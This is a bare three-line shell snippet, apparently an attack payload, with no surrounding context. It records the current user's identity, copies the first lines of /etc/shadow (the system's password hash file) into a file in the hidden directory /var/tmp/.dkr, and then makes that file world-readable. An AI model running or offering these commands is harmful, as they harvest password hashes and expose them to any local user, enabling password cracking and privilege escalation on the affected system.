id > /var/tmp/.dkr/o.txt
head -n 3 /etc/shadow >> /var/tmp/.dkr/o.txt
chmod 644 /var/tmp/.dkr/o.txt
